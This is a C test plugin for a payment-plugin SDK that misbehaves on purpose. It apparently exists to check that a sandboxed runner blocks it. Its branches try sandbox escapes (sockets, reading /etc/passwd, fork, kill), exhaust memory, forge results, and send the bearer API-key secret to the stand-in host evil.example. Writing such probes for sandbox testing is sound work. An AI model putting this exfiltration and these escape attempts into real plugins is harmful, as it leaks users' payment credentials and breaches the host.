/* A payment plugin in plain C that misbehaves as the order's key says. */
#define _GNU_SOURCE
#include "packhouse/sdk/payment.h"

#include "packhouse/sdk/fields.h"

#include <fcntl.h>
#include <pthread.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static const packhouse_payment_call* now_running;
static int runs;
static volatile int* volatile nowhere;

static int is(const char* key) { return strcmp(now_running->order_key, key) == 0; }

static packhouse_status answer(const packhouse_payment_sink* sink, int32_t outcome, packhouse_money amount, const char* reference)
{
    const packhouse_payment_result result = {outcome, 0, amount, reference, "", "as it was told", ""};
    sink->result(sink->context, &result);
    return PACKHOUSE_OK;
}

static void* idle(void* nothing) { return nothing; }

/* "allowed" if the runner let it: then a test fails. */
static packhouse_status tried(const packhouse_payment_sink* sink, int was_let)
{
    return answer(sink, PACKHOUSE_OUTCOME_PENDING, now_running->amount, was_let ? "allowed" : "refused");
}

static packhouse_status break_out(const packhouse_payment_sink* sink)
{
    pthread_t thread;
    if (is("socket")) return tried(sink, socket(AF_INET, SOCK_STREAM, 0) >= 0);
    if (is("file")) return tried(sink, open("/etc/passwd", O_RDONLY) >= 0);
    if (is("fork")) return tried(sink, fork() >= 0);
    if (is("thread")) return tried(sink, pthread_create(&thread, NULL, idle, NULL) == 0);
    if (is("kill")) return tried(sink, kill(getppid(), 0) == 0);
    if (is("environment")) return tried(sink, getenv("PATH") != NULL || getenv("HOME") != NULL);
    return PACKHOUSE_UNSUPPORTED;
}

/* Twice what the runner grants, so that a test without the limit fails and the computer lives on. */
static packhouse_status allocate(const packhouse_payment_sink* sink)
{
#if defined(__SANITIZE_ADDRESS__) || defined(__SANITIZE_THREAD__)
    abort(); /* no limit there: their shadow memory is larger than any */
#endif
    for (int more = 0; more != 64; ++more)
        memset(malloc(16 << 20), 1, 16 << 20);
    return tried(sink, 1);
}

static packhouse_status die(const packhouse_payment_sink* sink)
{
    if (is("crash")) *nowhere = 1;
    if (is("abort")) abort();
    if (is("exit")) _exit(0);
    if (is("hang"))
        for (;;)
            sleep(1);
    if (is("spin"))
        for (volatile int always = 1; always;) {
        }
    if (is("allocate")) return allocate(sink);
    return break_out(sink);
}

static packhouse_status lie(const packhouse_payment_sink* sink)
{
    packhouse_money other = now_running->amount;
    other.minor += 1;
    if (is("success")) return answer(sink, PACKHOUSE_OUTCOME_SUCCEEDED, now_running->amount, "R1");
    if (is("other-amount")) return answer(sink, PACKHOUSE_OUTCOME_SUCCEEDED, other, "R1");
    if (is("no-reference")) return answer(sink, PACKHOUSE_OUTCOME_PENDING, now_running->amount, "");
    if (is("no-outcome")) return answer(sink, 99, now_running->amount, "R1");
    if (is("no-result")) return PACKHOUSE_OK;
    if (is("not-utf8")) return answer(sink, PACKHOUSE_OUTCOME_PENDING, now_running->amount, "\xff\xfe");
    if (is("print")) {
        printf("{\"status\":0}\n");
        fflush(stdout);
        return answer(sink, PACKHOUSE_OUTCOME_PENDING, now_running->amount, "R1");
    }
    if (is("forge")) return write(3, "\x04\0\0\0null", 8) == 8 ? PACKHOUSE_OK : PACKHOUSE_FAILED;
    return die(sink);
}

/* With one reply at hand: what the key says; "paid" is what a good plugin would do. */
static packhouse_status after_reply(const packhouse_payment_sink* sink)
{
    if (is("crash-after-write")) *nowhere = 1;
    if (is("hang-after-write"))
        for (;;)
            sleep(1);
    if (is("other-amount-after-write")) {
        packhouse_money other = now_running->amount;
        other.minor -= 1;
        return answer(sink, PACKHOUSE_OUTCOME_SUCCEEDED, other, "R1");
    }
    if (is("not-attempted-after-write")) return answer(sink, PACKHOUSE_OUTCOME_NOT_ATTEMPTED, now_running->amount, "R1");
    return answer(sink, PACKHOUSE_OUTCOME_SUCCEEDED, now_running->amount, "R1");
}

static int sends(void)
{
    return is("paid") || is("drift") || is("endless") || is("elsewhere") || strstr(now_running->order_key, "after-write") != NULL;
}

static packhouse_status send_one(const packhouse_payment_sink* sink)
{
    char body[64];
    snprintf(body, sizeof body, "amount=%lld&run=%d", (long long)now_running->amount.minor, is("drift") ? runs : 0);
    const packhouse_http_request request = {"POST", is("elsewhere") ? "https://evil.example/pay" : "https://api.example.com/pay",
                                            "Authorization: Bearer {{secret:api_key}}\n", body, "Idempotency-Key"};
    sink->request(sink->context, &request);
    for (uint64_t reply = 0; is("endless") && reply != now_running->reply_count; ++reply)
        sink->request(sink->context, &request);
    if (now_running->reply_count == 0 || is("endless")) return PACKHOUSE_NEED_REPLY;
    return after_reply(sink);
}

static packhouse_status run(const packhouse_payment_call* call, const packhouse_payment_sink* sink)
{
    now_running = call;
    ++runs;
    return sends() ? send_one(sink) : lie(sink);
}

static packhouse_status describe(const packhouse_sink* sink)
{
    sink->put(sink->context, "title", "Bad", 3);
    sink->put(sink->context, "description", "Misbehaves on request.", 22);
    return PACKHOUSE_OK;
}

static packhouse_status open_(const packhouse_host* host, const packhouse_sink* why)
{
    (void)host, (void)why;
    return PACKHOUSE_OK;
}

static void close_(void) {}

static const void* extension(const char* id)
{
    static const packhouse_payment payment = {describe, run};
    static const packhouse_field secret = {PACKHOUSE_FIELD_SECRET, 0, "api_key", "API key", "From your account.", "", NULL, 0, 0};
    static const packhouse_field* const list[] = {&secret};
    static const packhouse_fields fields = {1, list};
    if (strcmp(id, PACKHOUSE_PAYMENT) == 0) return &payment;
    return strcmp(id, PACKHOUSE_FIELDS) == 0 ? &fields : NULL;
}

PACKHOUSE_EXPORT extern const packhouse_plugin_entry packhouse_plugin;
const packhouse_plugin_entry packhouse_plugin = {PACKHOUSE_ABI, 0, "org.example.bad", "Bad", "1.0.0", NULL, open_, close_, extension};
